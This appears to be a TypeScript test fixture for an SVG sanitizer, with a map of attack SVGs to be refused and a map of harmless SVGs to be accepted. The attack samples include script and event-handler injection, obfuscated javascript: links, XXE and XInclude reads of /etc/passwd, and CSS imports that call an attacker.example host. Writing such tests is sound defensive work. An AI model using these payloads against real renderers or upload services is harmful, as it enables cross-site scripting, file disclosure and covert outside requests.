// Attacks through SVG: pictures that run, ask another host or read a file when they are opened.
import { ELSEWHERE } from './attack.ts';

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attributes}>${inside}</svg>`;

/** Name → the file. Each has to be refused. */
export const svgAttacks: Readonly<Record<string, string | Buffer>> = {
  script: svg('<script>alert(1)</script>'),
  'script-href': svg(`<script href="${ELSEWHERE}/x.js"/>`),
  'script-cdata': svg('<script><![CDATA[alert(1)]]></script>'),
  'script-prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  'script-xhtml': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  'script-after-comment': svg('<!-- > --><script>alert(1)</script>'),
  'script-after-attribute': svg('<desc class="<!--"/>').replace('"<!--"', "'-->'") + '<script/>',
  'script-in-twin': svg('') + svg('<script>alert(1)</script>'),
  onload: svg('', ' onload="alert(1)"'),
  onclick: svg('<path d="M0 0h9" OnClick="alert(1)"/>'),
  onbegin: svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  'on-prefix': svg('<path ev:onload="alert(1)" xmlns:ev="http://www.w3.org/2001/xml-events"/>'),
  'foreign-object': svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
  ),
  'foreign-case': svg('<FOREIGNOBJECT/>'),
  'xhtml-frame': svg(
    '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
  ),
  'xhtml-entity': svg('<h:img xmlns:h="http://www.w3.org/1999/x&#104;tml" alt="x"/>'),
  'xhtml-default': svg('<p xmlns="http://www.w3.org/1999/xhtml">x</p>'),
  mathml: svg('<m:maction xmlns:m="http://www.w3.org/1998/Math/MathML"/>'),
  'a-javascript': svg('<a href="javascript:alert(1)"><text>x</text></a>'),
  'a-xlink': svg('<a xlink:href="java&#x73;cript:alert(1)"><text>x</text></a>'),
  'a-tab': svg('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
  'a-data': svg('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>x</text></a>'),
  'set-href': svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
  'animate-href': svg(
    '<a><animate attributeName="xlink:href" values="javascript:alert(1);x"/></a>',
  ),
  'animate-handler': svg('<set attributeName="onclick" to="alert(1)"/>'),
  'animate-values': svg('<animate attributeName="x" values="0;javascript:alert(1)"/>'),
  'image-elsewhere': svg(`<image href="${ELSEWHERE}/pixel.png"/>`),
  'image-file': svg('<image xlink:href="file:///etc/passwd"/>'),
  'image-relative': svg('<image href="../other.svg"/>'),
  'image-svg': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  'use-elsewhere': svg(`<use href="${ELSEWHERE}/x.svg#a"/>`),
  'use-data': svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
  'fe-image': svg(`<filter><feImage href="${ELSEWHERE}/x.png"/></filter>`),
  'font-face': svg(`<font-face-uri xlink:href="${ELSEWHERE}/x.svg#f"/>`),
  'css-import': svg(`<style>@import url(${ELSEWHERE}/x.css);</style>`),
  'css-import-split': svg('<style>@im<!-- -->port "//attacker.example/x.css";</style>'),
  'css-import-cdata': svg('<style>@im<![CDATA[port "//attacker.example/x.css";]]></style>'),
  'css-import-escape': svg('<style>@\\69mport "//attacker.example/x.css";</style>'),
  'css-element': svg('<style>@im<g>x</g>port "//attacker.example/x.css";</style>'),
  'css-url': svg(`<style>path { fill: url("${ELSEWHERE}/x.svg#a") }</style>`),
  'css-url-escape': svg('<style>path { fill: \\75rl(//attacker.example/x) }</style>'),
  'css-image-set': svg('<style>svg { background: image-set("//attacker.example/x" 1x) }</style>'),
  'attribute-image-set': svg(`<path cursor="image-set('//attacker.example/x' 1x), auto"/>`),
  'animated-image-set': svg(
    `<path><set attributeName="cursor" to="image-set('//attacker.example/x' 1x), auto"/></path>`,
  ),
  'style-attribute': svg(`<path style="background: url(${ELSEWHERE}/x)"/>`),
  'fill-attribute': svg(`<path fill="url(${ELSEWHERE}/x#a)"/>`),
  'css-expression': svg('<path style="width: expression(alert(1))"/>'),
  'css-binding': svg('<path style="-moz-binding: url(#x)"/>'),
  stylesheet: `<?xml-stylesheet href="${ELSEWHERE}/x.css"?>${svg('')}`,
  'stylesheet-xsl': `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg('')}`,
  xxe: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  dtd: `<!DOCTYPE svg SYSTEM "${ELSEWHERE}/x.dtd">${svg('')}`,
  'entity-bomb': `<!DOCTYPE svg [<!ENTITY a "xx"><!ENTITY b "&a;&a;">]>${svg('<text>&b;</text>')}`,
  'entity-unknown': svg('<text>&xxe;</text>'),
  'xml-base': svg('<a href="#x"/>', ` xml:base="${ELSEWHERE}/"`),
  xinclude: svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
  html: '<html><script>alert(1)</script></html>',
  'html-first': `<script>alert(1)</script>${svg('')}`,
  'not-closed': '<svg xmlns="http://www.w3.org/2000/svg"><g>',
  empty: '',
  'utf-16': Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`, 'utf16le'),
  'other-encoding': `<?xml version="1.0" encoding="UTF-7"?>${svg('<text>+ADw-script+AD4-</text>')}`,
  'control-character': svg('<text>\u0000</text>'),
  'duplicate-doctype': `<!DOCTYPE svg><!DOCTYPE svg SYSTEM "x">${svg('')}`,
};

/** Pictures as programs write them. None may be refused. */
export const harmlessSvgs: Readonly<Record<string, string>> = {
  plain: svg('<path d="M1 1h7" fill="url(#g)"/><defs><linearGradient id="g"/></defs>'),
  graphviz: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- Generated by graphviz -->
${svg('<g class="node"><title>a&#45;&gt;b</title><a xlink:href="https://ops.example.com/"><text>a</text></a></g>')}
`,
  drawing: svg(
    '<style>.a { fill: #fff; marker-end: url(#m) } .b > .c { stroke: red }</style><use href="#m"/>',
  ),
  picture: svg('<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="9"/>'),
  lettered: svg(
    '<style>@font-face { font-family: "Hand"; src: url("data:font/woff2;base64,d09GMg=="); }</style>',
  ),
  animation: svg('<animate attributeName="opacity" values="0;1" dur="2s"/>'),
  marked: `\ufeff${svg('<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD" title="an image (1)"/>')}`,
};
